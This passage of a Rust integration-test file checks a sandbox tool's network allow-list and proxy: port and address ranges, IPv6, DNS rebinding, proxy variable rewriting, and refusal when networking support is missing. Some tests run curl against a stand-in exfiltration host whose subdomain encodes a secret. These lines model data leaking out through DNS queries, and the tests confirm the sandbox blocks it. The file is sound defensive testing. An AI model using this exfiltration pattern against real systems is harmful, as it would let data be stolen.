        wait_until("the listed port answers", Duration::from_secs(20), || {
            got = answer().filter(|g| !g.is_empty());
            got.is_some()
        });
        assert_eq!(got.as_deref(), Some("inside\n"));
        stop(sandbox);
    }
);

both!(an_address_only_allow_list_never_looks_a_name_up, |who| {
    // A name the payload makes up can carry data out in the DNS query itself
    // (`<secret>.attacker.example`). With address entries alone, a name is refused
    // without a lookup. The supervisor runs in a network namespace this test makes (no
    // route anywhere), so a lookup that does happen fails at once and its reason says so.
    let dir = Scratch::new("net-no-lookup");
    let run_in_netns = |allow: &str| {
        let report = dir.for_anyone(&format!("r-{}.json", allow.len()));
        let script =
            "curl -sS -m 10 -o /dev/null -w '%{http_connect}\\n' -p https://c2vjcmv0.exfil.example/";
        let lasagna = command(
            who,
            &[
                "run", "-p", "strict", "--allow", allow, "--report", &report, "--", "/bin/sh",
                "-c", script,
            ],
        );
        let mut cmd = Command::new("unshare");
        cmd.arg("-n")
            .arg("--")
            .arg(lasagna.get_program())
            .args(lasagna.get_args())
            .envs(lasagna.get_envs().filter_map(|(k, v)| v.map(|v| (k, v))))
            .current_dir("/")
            .process_group(0);
        let o = output_within(cmd, DEADLINE);
        let r: serde_json::Value =
            serde_json::from_str(&std::fs::read_to_string(&report).unwrap()).unwrap();
        let reason = r["connections"][0]["reason"]
            .as_str()
            .unwrap_or_default()
            .to_string();
        (o, reason)
    };
    let (o, reason) = run_in_netns("192.0.2.0/24:443");
    assert_eq!(stdout(&o), "403\n", "{}", stderr(&o));
    assert!(
        reason.contains("address entries cover addresses, not names"),
        "{reason}"
    );
    // Control: a name entry that matches has the name looked up (here it cannot resolve).
    let (o, reason) = run_in_netns("*.exfil.example:443");
    assert_eq!(stdout(&o), "403\n", "{}", stderr(&o));
    assert!(
        reason.starts_with("cannot resolve c2vjcmv0.exfil.example"),
        "{reason}"
    );
});

/// A server on the host's loopback address `addr` (`127.0.0.2`, `::1`), port `port` (0: a
/// random one), answering `at ADDR` to at most 8 requests; returns the port.
fn serve_loopback(addr: &str, port: u16) -> u16 {
    use std::io::{Read, Write};
    let ip: std::net::IpAddr = addr.parse().unwrap();
    let l = TcpListener::bind((ip, port)).unwrap();
    let port = l.local_addr().unwrap().port();
    let body = format!("at {addr}\n");
    std::thread::spawn(move || {
        for s in l.incoming().take(8) {
            let Ok(mut s) = s else { continue };
            let _ = s.set_read_timeout(Some(std::time::Duration::from_secs(10)));
            let mut head = Vec::new();
            let mut buf = [0u8; 1024];
            while !head.windows(4).any(|w| w == b"\r\n\r\n") {
                match s.read(&mut buf) {
                    Ok(0) | Err(_) => break,
                    Ok(n) => head.extend_from_slice(&buf[..n]),
                }
            }
            let _ = write!(
                s,
                "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
                body.len()
            );
        }
    });
    port
}

/// `curl` of each URL through the proxy (HTTP, or CONNECT for a `-p` one): the body, or
/// `denied` when the proxy refused.
fn fetch_each(urls: &[String]) -> String {
    urls.iter()
        .map(|u| format!("curl -sSfg -m 10 {u} 2>/dev/null || echo denied; "))
        .collect()
}

/// `lasagna run -p strict --allow ENTRY... -- /bin/sh -c SCRIPT` as `who`.
fn proxied(who: As, allow: &[String], script: &str) -> std::process::Output {
    let mut argv = vec!["run", "-p", "strict"];
    for a in allow {
        argv.extend(["--allow", a.as_str()]);
    }
    argv.extend(["--", "/bin/sh", "-c", script]);
    run(who, &argv)
}

both!(proxy_port_ranges_cover_both_ends_and_nothing_past, |who| {
    let port = serve_loopback("127.0.0.1", 0);
    let script = fetch_each(&[format!("http://localhost:{port}/")]);
    for (lo, hi, want) in [
        (port - 1, port, "at 127.0.0.1\n"),
        (port, port + 1, "at 127.0.0.1\n"),
        // Control: the same request, one port past the range, is refused.
        (port + 1, port + 2, "denied\n"),
    ] {
        let o = proxied(who, &[format!("localhost:{lo}-{hi}")], &script);
        assert_code(&o, 0);
        assert_eq!(stdout(&o), want, "localhost:{lo}-{hi}\n{}", stderr(&o));
    }
});

both!(proxy_address_ranges_cover_their_prefix_only, |who| {
    // Three addresses of the host's loopback, one port: a /30 covers .1 and .2, not .9.
    let port = serve_loopback("127.0.0.1", 0);
    serve_loopback("127.0.0.2", port);
    serve_loopback("127.0.0.9", port);
    let script = fetch_each(&[
        format!("http://127.0.0.1:{port}/"),
        format!("http://127.0.0.2:{port}/"),
        format!("http://127.0.0.9:{port}/"),
    ]);
    let o = proxied(who, &[format!("127.0.0.0/30:{port}")], &script);
    assert_code(&o, 0);
    assert_eq!(
        stdout(&o),
        "at 127.0.0.1\nat 127.0.0.2\ndenied\n",
        "{}",
        stderr(&o)
    );
    // Control: a /28 covers .9 as well.
    let o = proxied(who, &[format!("127.0.0.0/28:{port}")], &script);
    assert_eq!(
        stdout(&o),
        "at 127.0.0.1\nat 127.0.0.2\nat 127.0.0.9\n",
        "{}",
        stderr(&o)
    );
});

both!(proxy_ipv6_entries_reach_the_ipv6_loopback, |who| {
    let port = serve_loopback("::1", 0);
    // HTTP with a bracketed authority, then a CONNECT tunnel to [::1]:PORT.
    let script = fetch_each(&[
        format!("http://[::1]:{port}/"),
        format!("-p http://[::1]:{port}/"),
    ]);
    for (entry, want) in [
        (format!("[::1]:{port}"), "at ::1\nat ::1\n"),
        (format!("[::/127]:{port}"), "at ::1\nat ::1\n"),
        // Control: an IPv4 entry for the same port does not cover ::1.
        (format!("127.0.0.1:{port}"), "denied\ndenied\n"),
        (format!("[::2]:{port}"), "denied\ndenied\n"),
    ] {
        let o = proxied(who, std::slice::from_ref(&entry), &script);
        assert_code(&o, 0);
        assert_eq!(stdout(&o), want, "{entry}\n{}", stderr(&o));
    }
});

/// `lasagna ARGS` as `who`, in a private mount namespace (`unshare -m`, private
/// propagation) where `src` is bind-mounted over `dst`: lasagna sees the test's file (a
/// hosts file, a masked device or binary), the host's own is left alone.
fn with_bind(who: As, src: &str, dst: &str, args: &[&str]) -> Command {
    let lasagna = command(who, args);
    let mut cmd = Command::new("unshare");
    cmd.args([
        "-m",
        "--propagation",
        "private",
        "--",
        "/bin/sh",
        "-c",
        "mount --bind \"$0\" \"$1\" && shift && exec \"$@\"",
        src,
        dst,
    ])
    .arg(lasagna.get_program())
    .args(lasagna.get_args())
    .current_dir("/")
    .stdin(std::process::Stdio::null())
    .process_group(0);
    cmd
}

both!(
    proxy_a_name_entry_never_reaches_the_loopback_its_name_resolves_to,
    |who| {
        // DNS rebinding: a name on the allow-list whose answer is the host's loopback.
        let port = serve_loopback("127.0.0.1", 0);
        let dir = Scratch::new("net-rebind");
        let hosts = dir.write("hosts", "127.0.0.1 localhost\n127.0.0.1 rebind.test\n");
        let url = format!("http://rebind.test:{port}/");
        let script = fetch_each(std::slice::from_ref(&url));
        let name = format!("rebind.test:{port}");
        let o = output_within(
            with_bind(
                who,
                &hosts,
                "/etc/hosts",
                &[
                    "run", "-p", "strict", "--allow", &name, "-v", "--", "/bin/sh", "-c", &script,
                ],
            ),
            DEADLINE,
        );
        assert_code(&o, 0);
        assert_eq!(stdout(&o), "denied\n", "{}", stderr(&o));
        assert!(
        stderr(&o).contains(&format!(
            "denied HTTP rebind.test:{port}: rebind.test resolves to 127.0.0.1: a name entry does not reach a loopback"
        )),
        "{}",
        stderr(&o)
    );
        // Control: the same name, with an address entry for the loopback beside it, goes
        // through: the name resolves there, and only the filter stopped it.
        let addr = format!("127.0.0.1:{port}");
        let o = output_within(
            with_bind(
                who,
                &hosts,
                "/etc/hosts",
                &[
                    "run", "-p", "strict", "--allow", &name, "--allow", &addr, "--", "/bin/sh",
                    "-c", &script,
                ],
            ),
            DEADLINE,
        );
        assert_code(&o, 0);
        assert_eq!(stdout(&o), "at 127.0.0.1\n", "{}", stderr(&o));
    }
);

/// A DNS server on 127.0.0.1:53 that writes each name asked for to `argv[1]` (one a line),
/// answers NXDOMAIN, and creates `argv[2]` once it listens; 32 queries or 60 s at most.
const DNS_RECORDER: &str = r#"
import socket, sys
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.bind(('127.0.0.1', 53))
log = open(sys.argv[1], 'a')
open(sys.argv[2], 'w').close()
s.settimeout(60)
for _ in range(32):
    try:
        q, peer = s.recvfrom(512)
    except socket.timeout:
        break
    i, labels = 12, []
    while i < len(q) and q[i]:
        labels.append(q[i + 1:i + 1 + q[i]].decode(errors='replace'))
        i += 1 + q[i]
    log.write('.'.join(labels) + '\n')
    log.flush()
    s.sendto(q[:2] + b'\x81\x83' + q[4:6] + b'\x00' * 6 + q[12:i + 5], peer)
"#;

both!(proxy_a_name_no_entry_names_is_not_looked_up, |who| {
    // A name the payload makes up can carry data out in the DNS query itself. With name
    // entries that do not match it, the name is refused without a query. The supervisor
    // runs in a network and mount namespace of the test's own whose resolver is a recorder
    // on its loopback: every query the proxy makes is written down.
    let dir = Scratch::new("net-unnamed");
    let resolv = dir.write(
        "resolv.conf",
        "nameserver 127.0.0.1\noptions timeout:2 attempts:1\n",
    );
    let setup = "set -e; ip link set lo up; mount --bind \"$1\" /etc/resolv.conf; \
        timeout 60 python3 -c \"$4\" \"$2\" \"$3\" 2>>\"$2.err\" & dns=$!; \
        i=0; while [ ! -e \"$3\" ] && [ $i -lt 500 ]; do sleep 0.01; i=$((i+1)); done; \
        shift 4; set +e; \"$@\"; rc=$?; kill $dns; exit $rc";
    let run_with = |allow: &str, tag: &str| {
        let log = dir.path().join(format!("queries-{tag}"));
        let ready = dir.path().join(format!("ready-{tag}"));
        let lasagna = command(
            who,
            &[
                "run",
                "-p",
                "strict",
                "--allow",
                allow,
                "--",
                "/bin/sh",
                "-c",
                "curl -sS -m 10 -o /dev/null -w '%{http_code}\\n' http://c2vjcmv0.exfil.example:443/",
            ],
        );
        let mut cmd = Command::new("unshare");
        cmd.args([
            "-m",
            "-n",
            "--propagation",
            "private",
            "--",
            "/bin/sh",
            "-c",
            setup,
            "sh",
        ])
        .arg(&resolv)
        .arg(&log)
        .arg(&ready)
        .arg(DNS_RECORDER)
        .arg(lasagna.get_program())
        .args(lasagna.get_args())
        .current_dir("/")
        .stdin(std::process::Stdio::null())
        .process_group(0);
        let o = output_within(cmd, DEADLINE);
        assert!(ready.exists(), "the recorder did not start: {}", stderr(&o));
        (o, std::fs::read_to_string(&log).unwrap_or_default())
    };
    let (o, queries) = run_with("api.listed.example:443", "unmatched");
    assert_code(&o, 0);
    assert_eq!(stdout(&o), "403\n", "{}", stderr(&o));
    assert_eq!(queries, "", "names looked up for a name no entry names");
    // Control: a name entry that matches it has the name looked up, through the recorder.
    let (o, queries) = run_with("*.exfil.example:443", "matched");
    assert_code(&o, 0);
    assert_eq!(stdout(&o), "403\n", "{}", stderr(&o));
    assert!(
        queries.lines().any(|q| q == "c2vjcmv0.exfil.example"),
        "no query for the matching name: {queries:?}"
    );
});

both!(proxy_mode_points_every_proxy_variable_at_itself, |who| {
    // The caller's own proxy settings are replaced, and NO_PROXY removed: with it, curl
    // would go straight to localhost, which the namespace does not reach.
    let port = serve_loopback("127.0.0.1", 0);
    let env = [
        "--env",
        "NO_PROXY=localhost",
        "--env",
        "no_proxy=localhost",
        "--env",
        "HTTPS_PROXY=http://elsewhere.example:1",
        "--env",
        "ALL_PROXY=socks5h://elsewhere.example:1",
    ];
    let script = format!(
        "env | grep -i '_proxy=' | LC_ALL=C sort; \
         curl -sS -m 10 http://localhost:{port}/ 2>/dev/null || echo no-answer; \
         env -u http_proxy -u HTTP_PROXY curl -sS -m 10 http://localhost:{port}/ 2>/dev/null || echo no-answer"
    );
    let allow = format!("localhost:{port}");
    let mut with = vec!["-p", "strict", "--allow", &allow];
    with.extend(env);
    let mut without = vec!["-p", "strict", "--net", "none"];
    without.extend(env);
    let c = Contrast::of(who, &with, &without, &["/bin/sh", "-c", &script]);
    let proxy = "http://127.0.0.1:3128";
    let socks = "socks5h://127.0.0.1:3128";
    c.prints(
        &format!(
            "ALL_PROXY={socks}\nHTTPS_PROXY={proxy}\nHTTP_PROXY={proxy}\nall_proxy={socks}\n\
             http_proxy={proxy}\nhttps_proxy={proxy}\nat 127.0.0.1\nat 127.0.0.1\n"
        ),
        // Control: without the proxy the caller's variables stay as they were.
        "ALL_PROXY=socks5h://elsewhere.example:1\nHTTPS_PROXY=http://elsewhere.example:1\n\
         NO_PROXY=localhost\nno_proxy=localhost\nno-answer\nno-answer\n",
    );
});

both!(
    net_user_without_pasta_or_tun_is_refused_with_the_reason,
    |who| {
        let dir = Scratch::new("net-nopasta");
        let required = [
            "run",
            "-p",
            "strict",
            "--net",
            "user",
            "--",
            "/bin/echo",
            "ran",
        ];
        // Control: with pasta and /dev/net/tun as the host has them, the payload runs.
        let o = run(who, &required);
        assert_code(&o, 0);
        assert_eq!(stdout(&o), "ran\n", "{}", stderr(&o));
        // lasagna looks for pasta at fixed system paths: /dev/null over /usr/bin/pasta is no
        // executable file there.
        let pasta = "/usr/bin/pasta";
        let o = output_within(with_bind(who, "/dev/null", pasta, &required), DEADLINE);
        assert_code(&o, 125);
        assert_eq!(stdout(&o), "", "the payload ran");
        let err = stderr(&o);
        assert!(
            err.contains("refused before anything was created")
                && err.contains("network: net: user needs pasta, which is not installed here"),
            "{err}"
        );
        // best-effort degrades to net: none and says so; the payload has its loopback only.
        let p = dir.write(
            "p.yaml",
            "extends: strict\nlayers:\n  network:\n    mode: best-effort\n    net: user\n",
        );
        let report = dir.for_anyone("r.json");
        let script = "grep -o '^ *[a-z0-9]*:' /proc/net/dev | tr -d ' :' | sort | tr '\\n' ' '";
        let o = output_within(
            with_bind(
                who,
                "/dev/null",
                pasta,
                &[
                    "run", "-p", &p, "--report", &report, "--", "/bin/sh", "-c", script,
                ],
            ),
            DEADLINE,
        );
        assert_code(&o, 0);
        assert_eq!(stdout(&o), "lo ", "{}", stderr(&o));
        let r: serde_json::Value =
            serde_json::from_str(&std::fs::read_to_string(&report).unwrap()).unwrap();
        let net = layer_of(&r, "network");
        assert_eq!(net["outcome"], "degraded", "{net}");
        assert!(
            net["reason"]
                .as_str()
                .unwrap_or_default()
                .ends_with("the sandbox gets net: none"),
            "{net}"
        );
        // /dev/net/tun out of reach. The test user: a root-only file over it, and the plan
        // refuses before the run. Root opens any file: /dev/null over it, and pasta's failure
        // to make its interface ends the launch with what pasta said.
        let o = if who == As::User {
            let mask = dir.write("tun", "");
            let _ = Command::new("chmod").args(["0600", &mask]).status();
            output_within(with_bind(who, &mask, "/dev/net/tun", &required), DEADLINE)
        } else {
            output_within(
                with_bind(who, "/dev/null", "/dev/net/tun", &required),
                DEADLINE,
            )
        };
        assert_code(&o, 125);
        assert_eq!(stdout(&o), "", "the payload ran");
        let err = stderr(&o);
        let want = if who == As::User {
            "network: net: user needs /dev/net/tun, which this user cannot open"
        } else {
            "network: pasta exited (exit status: 1) before the interface was up: Failed to open tun socket"
        };
        assert!(err.contains(want), "{err}");
    }
);
